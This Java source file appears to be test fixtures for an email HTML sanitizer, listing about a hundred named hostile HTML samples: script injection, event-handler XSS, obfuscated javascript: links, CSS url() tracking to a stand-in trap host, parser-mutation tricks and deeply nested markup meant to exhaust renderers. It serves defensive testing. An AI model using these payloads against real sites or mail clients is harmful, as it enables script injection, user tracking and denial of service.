/*
 * Copyright 2026-present the original author or authors.
 *
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 *      https://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License.
 */

package dev.smtpd.spring.boot.inbox.content;

import java.util.LinkedHashMap;
import java.util.Map;

/**
 * HTML as attackers send it. Each one runs a script, loads {@code TRAP}, or breaks out,
 * if it is shown as it is.
 */
public final class HostileHtml {

	/**
	 * Stands for the address of a server that must not be asked.
	 */
	static final String TRAP = "http://trap.example.org";

	private HostileHtml() {
	}

	/**
	 * Return all of them.
	 * @return the HTML by what it is
	 */
	public static Map<String, String> all() {
		Map<String, String> all = new LinkedHashMap<>();
		scripts(all);
		links(all);
		remote(all);
		styles(all);
		mutations(all);
		structure(all);
		return all;
	}

	private static void scripts(Map<String, String> all) {
		all.put("script", "<script>alert(1)</script>");
		all.put("script with a source", "<script src=TRAP/a.js></script>");
		all.put("script that isn't ended", "<script>alert(1)");
		all.put("script in the head", "<html><head><script>alert(1)</script></head><body>hi");
		all.put("script within a tag", "<scr<script>ipt>alert(1)</scr</script>ipt>");
		all.put("script in upper case with a slash", "<SCRIPT/x src=TRAP/b.js></SCRIPT/x>");
		all.put("script with an unknown end", "<script><!--<script>alert(1)</script>--></script>");
		all.put("NUL in a tag", "<scr\0ipt>alert(1)</scr\0ipt><img\0 src=x onerror=alert(1)>");
		all.put("onerror", "<img src=x onerror=alert(1)>");
		all.put("onerror without blanks", "<img/src=x/onerror=alert(1)//>");
		all.put("onload of the body", "<body onload=alert(1) onpageshow=alert(2)>hi</body>");
		all.put("second body", "<p>hi</p><body onload=alert(1)>");
		all.put("ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>");
		all.put("onfocus", "<a href=https://example.org autofocus tabindex=1 onfocus=alert(1)>x</a>");
		all.put("onanimationstart",
				"<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=alert(1)>");
		all.put("handler with an odd name",
				"<p OnClick\n=\nalert(1) on\tx=1 \"onmouseover=alert(2)\" x='\"onx=\"'>a</p>");
		all.put("attribute that breaks out", "<p title='\"><script>alert(1)</script>'>a</p>");
		all.put("attribute with back ticks", "<p title=`a`onclick=alert(1)` align='``onerror=alert(1)'>a</p>");
		all.put("iframe",
				"<iframe src=javascript:alert(1)></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>");
		all.put("frameset", "<frameset onload=alert(1)><frame src=TRAP/c></frameset>");
		all.put("object", "<object data=TRAP/d type=text/html><param name=src value=TRAP/e></object>");
		all.put("embed", "<embed src=TRAP/f><applet code=x archive=TRAP/g></applet>");
		all.put("object in HTML of a data URL", "<object data='data:text/html,<script>alert(1)</script>'></object>");
		all.put("form",
				"<form action=TRAP/h><input type=image src=TRAP/i><button formaction=javascript:alert(1)>x</button>"
						+ "<input autofocus onfocus=alert(1)><textarea>x</textarea><select><option>x</select></form>");
		all.put("isindex", "<isindex type=image src=TRAP/j action=javascript:alert(1)>");
		all.put("meta refresh", "<meta http-equiv=refresh content='0;url=TRAP/k'>");
		all.put("meta refresh to a script",
				"<META HTTP-EQUIV='Refresh' CONTENT='0; URL=data:text/html,<script>alert(1)</script>'>");
		all.put("meta with a cookie",
				"<meta http-equiv=Set-Cookie content='a=b'><meta http-equiv=Content-Security-Policy content=\"default-src *\">");
		all.put("base", "<base href=TRAP/l/ target=_top><img src=relative.png><a href=relative>x</a>");
		all.put("portal and others",
				"<portal src=TRAP/m></portal><dialog open>x</dialog><slot onclick=alert(1)></slot>");
	}

	private static void links(Map<String, String> all) {
		all.put("javascript link", "<a href=javascript:alert(1)>x</a>");
		all.put("javascript link in mixed case", "<a href=JaVaScRiPt:alert(1)>x</a>");
		all.put("javascript link with entities", "<a href='&#106;&#x61;vascript&colon;alert(1)'>x</a>");
		all.put("javascript link with a tab",
				"<a href='java\tscript:alert(1)'>x</a><a href='java&Tab;script&NewLine;:alert(1)'>x</a>");
		all.put("javascript link behind controls", "<a href='\u0001\u0002 \u001fjavascript:alert(1)'>x</a>");
		all.put("javascript link of wide letters",
				"<a href='\uff4aavascript:alert(1)'>x</a><a href='java\u00adscript:alert(1)'>x</a>"
						+ "<a href='java\u200bscript:alert(1)'>x</a>");
		all.put("vbscript link", "<a href='vbscript:msgbox(1)'>x</a><a href=livescript:x>x</a><a href=mocha:x>x</a>");
		all.put("data link", "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>");
		all.put("file and other links",
				"<a href=file:///etc/passwd>x</a><a href=smb://a/b>x</a><a href=ms-msdt:/id>x</a>"
						+ "<a href=blob:https://a>x</a><a href=view-source:https://a>x</a>");
		all.put("link that breaks out", "<a href='https://example.org/\"onclick=alert(1) x=\"'>x</a>");
		all.put("link with a ping", "<a href=https://example.org ping=TRAP/n download>x</a>");
		all.put("link to the application",
				"<a href=/logout>x</a><a href=//evil.example.org>x</a><a href=\\\\evil.example.org>x</a>");
		all.put("area", "<map name=m><area shape=rect coords=0,0,9,9 href=javascript:alert(1)></map><img usemap=#m>");
		all.put("xlink", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>");
		all.put("data picture that is SVG", "<img src='data:image/svg+xml,<svg onload=alert(1)>'>"
				+ "<img src='data:image/svg+xml;base64,PHN2Zy8+'><img src='data:image/png,x'><img src=' data:text/html,x'>");
	}

	private static void remote(Map<String, String> all) {
		all.put("picture", "<img src=TRAP/1.png><img src='\nhttps://trap.example.org/2.png'>");
		all.put("picture without a scheme", "<img src=//trap.example.org/3.png><img src=\\\\trap.example.org\\3.png>");
		all.put("srcset",
				"<img srcset='TRAP/4.png 1x, TRAP/5.png 2x'><picture><source srcset=TRAP/6.png><img></picture>");
		all.put("background",
				"<body background=TRAP/7.png><table background=TRAP/8.png><tr><td background=TRAP/9.png>x</table>");
		all.put("style sheet",
				"<link rel=stylesheet href=TRAP/10.css><link rel=prefetch href=TRAP/11><link rel=dns-prefetch href=//trap.example.org>"
						+ "<link rel=preload as=image href=TRAP/11b>");
		all.put("video and audio",
				"<video src=TRAP/12 poster=TRAP/13 autoplay><source src=TRAP/14><track src=TRAP/15></video>"
						+ "<audio src=TRAP/16 autoplay></audio>");
		all.put("old attributes", "<img lowsrc=TRAP/17 dynsrc=TRAP/18 longdesc=TRAP/19><bgsound src=TRAP/20>");
		all.put("svg image", "<svg><image href=TRAP/21 /><use href=TRAP/22#a /><feImage href=TRAP/23 /></svg>");
		all.put("picture in SVG in a picture", "<image src=TRAP/24.png>");
		all.put("manifest", "<html manifest=TRAP/25><head profile=TRAP/26></head><body>x");
		all.put("citation", "<blockquote cite=TRAP/27>x</blockquote><q cite=TRAP/28>y</q>");
	}

	private static void styles(Map<String, String> all) {
		all.put("url in a style",
				"<p style='background:url(TRAP/30)'>x</p><p style=\"background-image:url('TRAP/31')\">x</p>");
		all.put("url in another case",
				"<p style='background:URL( \"TRAP/32\" )'>x</p><p style='list-style:uRl(TRAP/33)'>x</p>");
		all.put("url with escapes",
				"<p style='background:\\75\\72\\6c(TRAP/34)'>x</p><p style='background:u\\rl(TRAP/35)'>x</p>"
						+ "<p style='background:url(\\68ttp://trap.example.org/36)'>x</p>");
		all.put("url with comments",
				"<p style='background:u/**/rl(TRAP/37)'>x</p><p style='background:url(/**/TRAP/38)'>x</p>");
		all.put("image-set",
				"<p style='background-image:image-set(\"TRAP/39\" 1x)'>x</p><p style='background:-webkit-image-set(url(TRAP/40) 1x)'>"
						+ "<p style='background:cross-fade(url(TRAP/41),url(TRAP/42),50%)'>x</p><p style='background:image(\"TRAP/42b\")'>");
		all.put("other properties",
				"<p style='cursor:url(TRAP/43),auto;mask:url(TRAP/44);filter:url(TRAP/45#a);border-image:url(TRAP/46) 1;"
						+ "shape-outside:url(TRAP/47);clip-path:url(TRAP/48#a);content:url(TRAP/49);offset-path:url(TRAP/49b)'>x</p>");
		all.put("variables",
				"<p style='--a:url(TRAP/50);background:var(--a)'>x</p><style>:root{--b:url(TRAP/51)}p{background:var(--b)}</style>");
		all.put("import", "<style>@import 'TRAP/52';@import url(TRAP/53);@\\69mport 'TRAP/54';</style>");
		all.put("import in a comment",
				"<style>/*\\*/@import 'TRAP/55';/**/</style><style><!--@import 'TRAP/56';--></style>");
		all.put("font", "<style>@font-face{font-family:x;src:url(TRAP/57)}p{font-family:x}</style><p>x</p>");
		all.put("other rules",
				"<style>@namespace 'TRAP/58';@document url(TRAP/59){p{color:red}}@media print{@import 'TRAP/60';p{background:url(TRAP/61)}}"
						+ "@supports(color:red){p{background:url(TRAP/62)}}@page{background:url(TRAP/63)}</style><p>x</p>");
		all.put("nested rules",
				"<style>p{color:red;&{background:url(TRAP/64)}b{background:url(TRAP/65)}}</style><p><b>x</b></p>");
		all.put("selector that reads",
				"<style>a[href^='h']{background:url(TRAP/66)}input[value$='a']{background:url(TRAP/67)}</style><a href=https://example.org>x</a>");
		all.put("style that breaks out", "<style>p{}</style/><img src=x onerror=alert(1)></style>"
				+ "<style>a[x='</style><script>alert(1)</script>']{color:red}</style><style>p{font-family:'</style><img src=x onerror=alert(1)>'}</style>");
		all.put("style that isn't ended", "<style>p{color:red");
		all.put("string that isn't ended",
				"<p style=\"font-family:'x;background:url(TRAP/68)\">x</p><style>p{font-family:'x\n;background:url(TRAP/69)}</style>");
		all.put("expression",
				"<p style='width:expression(alert(1));behavior:url(TRAP/70);-moz-binding:url(TRAP/71)'>x</p>"
						+ "<p style='width:exp/**/ression(alert(1));background:url(javascript:alert(1))'>x</p>");
		all.put("style element in a style attribute", "<p style='color:red}</style><script>alert(1)</script>'>x</p>");
		all.put("over everything",
				"<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:red'>x</div>");
	}

	private static void mutations(Map<String, String> all) {
		all.put("noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>");
		all.put("noscript in the head",
				"<head><noscript><style></noscript><img src=x onerror=alert(1)></style></noscript></head>");
		all.put("template",
				"<template><p title=\"</template><img src=x onerror=alert(1)>\"></template><template><script>alert(1)</script></template>");
		all.put("shadow root", "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>");
		all.put("style in SVG",
				"<svg><style><img src=x onerror=alert(1)></style></svg><svg></p><style><a id='</style><img src=1 onerror=alert(1)>'></svg>");
		all.put("MathML",
				"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">");
		all.put("annotation-xml",
				"<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>"
						+ "<math><annotation-xml encoding='application/xhtml+xml'><script>alert(1)</script></annotation-xml>");
		all.put("form in MathML", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>");
		all.put("foreignObject",
				"<svg><foreignObject><p><svg><style></style></svg><script>alert(1)</script></foreignObject></svg>"
						+ "<svg><desc><img src=x onerror=alert(1)></desc><title><style><img src=x onerror=alert(1)></style></title></svg>");
		all.put("table in foreign markup",
				"<svg><desc><table><tr><td><svg></table><img src=x onerror=alert(1)></svg></desc></svg>"
						+ "<table><svg><td><style><img src=x onerror=alert(1)></td></svg></table>");
		all.put("math with an action",
				"<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction><mi href=javascript:alert(1)>y</mi></math>");
		all.put("CDATA", "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg><![CDATA[<img src=x onerror=alert(1)>]]>");
		all.put("comments",
				"<!--><img src=x onerror=alert(1)>--><!---><img src=x onerror=alert(1)>--><!--a--!><img src=x onerror=alert(1)>-->"
						+ "<!-- --!> <img src=x onerror=alert(1)> --><![if gte IE 4]><script>alert(1)</script><![endif]>");
		all.put("processing instruction",
				"<?xml version='1.0'?><?xml-stylesheet href='TRAP/80'?><?php echo '<img src=x onerror=alert(1)>' ?>");
		all.put("text elements",
				"<xmp><img src=x onerror=alert(1)></xmp><noembed><img src=x onerror=alert(1)></noembed>"
						+ "<noframes><img src=x onerror=alert(1)></noframes><title><img src=x onerror=alert(1)></title>"
						+ "<textarea><img src=x onerror=alert(1)></textarea><iframe><img src=x onerror=alert(1)></iframe>");
		all.put("plaintext", "<plaintext><img src=x onerror=alert(1)>");
		all.put("select",
				"<select><style></select><img src=x onerror=alert(1)></style><select><template><img src=x onerror=alert(1)>");
		all.put("entities that are text",
				"&lt;script&gt;alert(1)&lt;/script&gt;<p>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p>");
		all.put("other charset",
				"+ADw-script+AD4-alert(1)+ADw-/script+AD4-<meta charset=utf-7>\u001b$B<script>alert(1)</script>");
		all.put("XML island",
				"<xml id=x><a><b><img src=x onerror=alert(1)></b></a></xml><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>");
	}

	private static void structure(Map<String, String> all) {
		all.put("document that is ended", "</body></html><script>alert(1)</script><img src=TRAP/90>");
		all.put("table that is ended", "</div></td></tr></table></body>" + "</div>".repeat(50) + "x");
		all.put("tag that isn't ended", "<p>x<img src=TRAP/91 alt='");
		all.put("huge span", "<table><tr><td colspan=100000000 rowspan=65534>x</td></tr></table>");
		all.put("names that pages use",
				"<a id=document name=cookie href=https://example.org>x</a><img name=getElementById id=body>");
		all.put("nested tables", "<table><tr><td>".repeat(3000) + "x");
		all.put("nested divs", "<div>".repeat(100_000) + "x");
		all.put("nested formatting",
				"<b><i><a href=https://example.org/x>".repeat(20_000) + "x" + "<p>".repeat(20_000));
		all.put("misnested formatting", "<a><b><p>".repeat(10_000) + "</a></b>".repeat(10_000) + "x");
		all.put("links", "<a href=https://example.org/>x</a>".repeat(1_000_000));
		all.put("cells", "<table>" + ("<tr>" + "<td>".repeat(1000)).repeat(500));
		all.put("attributes", "<p " + attributes() + ">x</p>");
		all.put("styles", "<style>" + "p{color:red}".repeat(100_000) + "</style><p style='"
				+ "color:red;".repeat(50_000) + "'>x</p>");
		all.put("braces", "<style>" + "{".repeat(200_000) + "</style><p style='" + "(".repeat(200_000) + "'>x</p>");
	}

	private static String attributes() {
		StringBuilder attributes = new StringBuilder();
		for (int i = 0; i < 50_000; i++) {
			attributes.append("a").append(i).append("=1 ");
		}
		return attributes.toString();
	}

}
